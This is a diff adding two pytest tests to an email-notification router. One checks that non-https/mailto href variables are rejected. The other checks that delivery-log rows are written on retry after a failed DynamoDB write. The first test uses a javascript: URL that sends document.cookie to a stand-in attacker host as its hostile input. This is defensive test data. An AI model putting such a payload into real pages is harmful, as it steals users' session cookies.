@@ -331,6 +331,54 @@ def test_unprocessed_prefetch_keys_are_retried(service: Service) -> None:
     assert [m["user_id"] for m in service.emails()] == ["u-2"]
 
 
+def test_an_href_variable_that_is_not_https_or_mailto_rejects_the_event(service: Service) -> None:
+    """Finding 6 of issue 15: a producer's ``javascript:`` URL reached the mail's ``href`` (escaped, live)."""
+    linked = {
+        "channels": ["email"],
+        "fallback_locale": "en",
+        "templates": {
+            "en": {"email": {"subject": "s", "text": "t", "html": '<a href="{{ tracking_url }}">Track</a>'}}
+        },
+    }
+    service.put_type("order_tracked", linked)
+    hostile, fine = event("n-1", ["u-2"]), event("n-2", ["u-2"])
+    hostile["detail-type"] = fine["detail-type"] = "order_tracked"
+    hostile["detail"]["data"]["tracking_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
+    fine["detail"]["data"]["tracking_url"] = "https://track.example.com/n-2"
+
+    assert router.handler(batch(hostile, fine), FakeLambdaContext()) == {"batchItemFailures": []}
+
+    [sent] = service.emails()
+    assert sent["notification_id"] == "evt-n-2"
+    assert sent["content"]["html"] == '<a href="https://track.example.com/n-2">Track</a>'
+    [rejected] = service.rejected()
+    assert json.loads(rejected["Body"])["id"] == "evt-n-1"
+    assert rejected["MessageAttributes"]["reason"]["StringValue"] == (
+        "templates.en.email.html: variable 'tracking_url' in the href attribute must make an absolute"
+        " https: or mailto: URL, got a URL with scheme javascript:"
+    )
+    assert rejected["MessageAttributes"]["error_type"]["StringValue"] == "TemplateError"
+
+
+def test_delivery_log_rows_of_a_failed_write_are_written_by_the_retry(service: Service) -> None:
+    """Finding 6 of issue 15, for the router: its suppression rows are written before any fan-out and
+    before the claims complete, so a failed write releases the claims and the retry writes the rows
+    (a guard: the router already worked this way)."""
+    fail_attempts("dynamodb", "BatchWriteItem", [("InternalServerError", 500)] * 3)
+    with pytest.raises(EntireBatchFailedError):
+        router.handler(batch(event("n-1", ["u-1", "u-2", "u-3"])), FakeLambdaContext())
+    assert service.emails() == [] and scan("delivery-log") == []
+
+    assert router.handler(batch(event("n-1", ["u-1", "u-2", "u-3"])), FakeLambdaContext()) == {
+        "batchItemFailures": []
+    }
+    assert [m["user_id"] for m in service.emails()] == ["u-2"]
+    assert {(row["user_id"], row["status"]) for row in scan("delivery-log")} == {
+        ("u-1", "suppressed_preference"),
+        ("u-3", "suppressed_preference"),
+    }
+
+
 def test_an_unreadable_prefetch_fails_every_record_and_releases_claims(service: Service) -> None:
     fail_attempts("dynamodb", "BatchGetItem", [("ProvisionedThroughputExceededException", 400)] * 3)
     with pytest.raises(EntireBatchFailedError):  # every record failed: the invocation fails
